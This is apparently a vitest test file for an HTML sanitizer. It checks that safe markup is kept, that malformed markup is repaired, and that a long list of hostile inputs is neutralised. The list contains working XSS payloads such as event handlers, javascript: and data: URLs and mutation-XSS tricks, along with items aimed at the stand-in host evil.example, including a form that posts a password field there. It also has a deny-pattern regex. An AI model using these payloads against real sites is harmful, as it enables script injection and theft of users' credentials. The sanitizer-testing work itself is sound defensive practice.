// attacks.md, group I: HTML written by an operator or by an attacker with an operator session.
import { describe, expect, it } from 'vitest'
import { processorMs } from '../../test/processor-time.ts'
import { cleanHtml, saysSomething } from './clean-html.ts'

describe('keeps', () => {
  it.each([
    '<h3>Title</h3><p>One <strong>two</strong><br />three</p>',
    '<ul><li>a</li></ul><ol><li>b</li></ol><blockquote>c</blockquote><hr />',
    '<table><caption>t</caption><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    '<a href="/home/discount?id=qmfl">own</a>',
    '<a href="https://example.com/" rel="noopener noreferrer nofollow" target="_blank">other</a>',
    '<img src="/files/hall.webp" width="600" height="300" alt="hall" />',
  ])('%s', (html) => expect(cleanHtml(html)).toBe(html))
})

describe('repairs', () => {
  it.each([
    ['<p>open <strong>never closed', '<p>open <strong>never closed</strong></p>'],
    ['</div></strong>words', 'words'],
    ['<div class="dialog-veil" id="root" style="position:fixed">x</div>', 'x'],
    ['<p style="background:url(//evil.example)" class="dialog" data-x="1">x</p>', '<p>x</p>'],
    ['<a href="http://example.com">x</a>', 'x'],
    [
      '<a href="HTTPS://EXAMPLE.com/a" rel="opener" target="_top">x</a>',
      '<a href="https://example.com/a" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    ],
    ['<a href="/vip" target="_blank">x</a>', '<a href="/vip">x</a>'],
    ['<td colspan="9999">x</td>', '<td>x</td>'],
    ['turned \u202eround\u2066 and \u0000hidden', 'turned round and hidden'],
    ['1 < 2 & 3', '1 &lt; 2 &amp; 3'],
  ])('%s', (html, clean) => expect(cleanHtml(html)).toBe(clean))
})

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" width="1" height="1" onerror="alert(1)" onload=alert(1)>',
  '<img src="https://evil.example/a.png" width="1" height="1">',
  '<img src="//evil.example/a.png" width="1" height="1">',
  '<img src="/\\evil.example/a.png" width="1" height="1">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" width="1" height="1">',
  '<img srcset="https://evil.example/a.png 1x" src="/logout" width="1" height="1">',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://mingtang.example@evil.example/">x</a>',
  '<a href="blob:https://evil.example/1" ping="https://evil.example">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src="https://evil.example/v.mp4" onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)></x>',
  '<custom-element is="x" slot="y" onfocus=alert(1) autofocus tabindex=0>x</custom-element>',
]
const never =
  /<(?!\/?(p|br|h3|h4|strong|b|em|i|u|ul|ol|li|blockquote|hr|a|img|table|caption|thead|tbody|tr|th|td)\b)|<[^>]*\s(on\w+|style|class|id|srcset|ping|name|is|slot|autofocus)\s*=|<[^>]*(javascript|vbscript|data|blob):|<[^>]*evil/i

describe('hostile HTML', () => {
  it.each(hostile)('is harmless once cleaned: %s', (html) => {
    const clean = cleanHtml(html)
    expect(clean).not.toMatch(never)
    expect(cleanHtml(`<p>${html}</p>`)).not.toMatch(never)
    // Sanitizing is idempotent: the result parses to itself.
    expect(cleanHtml(clean)).toBe(clean)
  })

  it('matches the pattern of forbidden output before it is cleaned, except at most three strings', () => {
    const harmless = hostile.filter((html) => !never.test(html))
    expect(harmless.length).toBeLessThan(4)
  })
})

it('limits deep nesting, within a second of CPU time', async () => {
  let clean = ''
  const usedMs = await processorMs(() => (clean = cleanHtml(`${'<blockquote><b>'.repeat(1300)}x`)))
  expect(clean.match(/<blockquote>/g)?.length ?? 0).toBeLessThan(30)
  expect(clean).toContain('x')
  expect(usedMs).toBeLessThan(1_000)
})

it.each([
  ['', false],
  ['<p>&nbsp; <br /></p><hr />', false],
  ['<p>x</p>', true],
  ['<img src="/a.png" width="1" height="1" />', true],
])('%j has visible content: %s', (html, says) => expect(saysSomething(html)).toBe(says))
